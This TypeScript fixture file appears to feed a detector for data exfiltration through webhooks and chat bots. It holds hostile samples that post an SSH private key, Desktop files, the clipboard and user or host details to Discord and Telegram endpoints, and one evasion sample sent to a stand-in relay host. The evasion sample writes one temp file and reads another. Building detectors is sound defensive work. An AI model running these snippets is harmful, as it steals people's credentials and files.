import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** What goes to hooks and bots, of persons and of builds. */
export const examples: Examples = {
  hits: [
    {
      name: "a key, posted to a hook",
      files: {
        "setup.ps1": `$d = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw
Invoke-RestMethod -Uri "https://discord.com/api/webhooks/1/x" -Method Post -Body $d
`,
      },
    },
    {
      name: "documents, sent by a bot",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const Bot = require("node-telegram-bot-api");
const bot = new Bot("token");
for (const name of fs.readdirSync(require("os").homedir() + "/Desktop"))
  bot.sendDocument(1, fs.createReadStream(require("os").homedir() + "/Desktop/" + name));
`,
      },
    },
    {
      name: "who sits where",
      files: {
        "main.py": `import getpass, socket, requests
requests.post("https://api.telegram.org/bot1/sendMessage", json={"text": getpass.getuser() + socket.gethostname()})
`,
      },
    },
    {
      name: "the clipboard, to a hook",
      files: { "setup.sh": "pbpaste | curl -d @- https://discord.com/api/webhooks/1/x\n" },
    },
  ],
  misses: [
    {
      name: "a build that tells how it went",
      why: "It sends what the build knows and nothing of a person.",
      files: {
        "package.json": manifest,
        "server.js": `const { execSync } = require("child_process");
const commit = execSync("git log -1 --oneline").toString();
fetch("https://hooks.slack.com/services/x", { method: "POST", body: JSON.stringify({ text: commit }) });
`,
      },
    },
    {
      name: "a bot that answers",
      why: "It sends back what somebody wrote to it.",
      files: {
        "package.json": manifest,
        "server.js": `const Bot = require("node-telegram-bot-api");
const bot = new Bot(process.env.TELEGRAM_TOKEN, { polling: true });
bot.on("message", (message) => bot.sendMessage(message.chat.id, message.text));
`,
      },
    },
    {
      name: "an alarm of a server",
      why: "The name of a server alone says nothing of a person.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: JSON.stringify({ content: os.hostname() + " is full" }) });
`,
      },
    },
  ],
  evasions: [
    {
      name: "a hook behind an own address",
      caughtBy: "nothing",
      files: {
        "setup.sh": `pbpaste > /tmp/a
curl -d "$(cat /tmp/b)" https://relay.example/
`,
      },
    },
  ],
};
